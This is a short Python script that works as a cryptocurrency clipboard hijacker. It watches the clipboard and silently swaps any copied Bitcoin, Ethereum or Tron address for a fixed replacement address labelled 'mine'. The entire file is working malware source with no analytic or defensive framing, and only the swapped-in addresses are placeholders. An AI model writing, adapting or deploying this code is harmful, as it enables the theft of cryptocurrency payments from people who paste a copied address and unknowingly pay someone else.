import re
import time
import pyperclip

RULES = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$"), "bc1qexampleexampleexampleexampleexample0"),
    (re.compile(r"^0x[0-9a-fA-F]{40}$"), "0x" + "00c0ffee" * 5),
    (re.compile(r"^T[A-Za-z1-9]{33}$"), "T" + "Example1" * 4 + "9"),
]
history = []
while True:
    cur = pyperclip.paste()
    if not history or history[-1] != cur:
        history.append(cur)
        for rx, mine in RULES:
            if rx.match(cur.strip()) and cur != mine:
                pyperclip.copy(mine)
                break
    time.sleep(0.4)
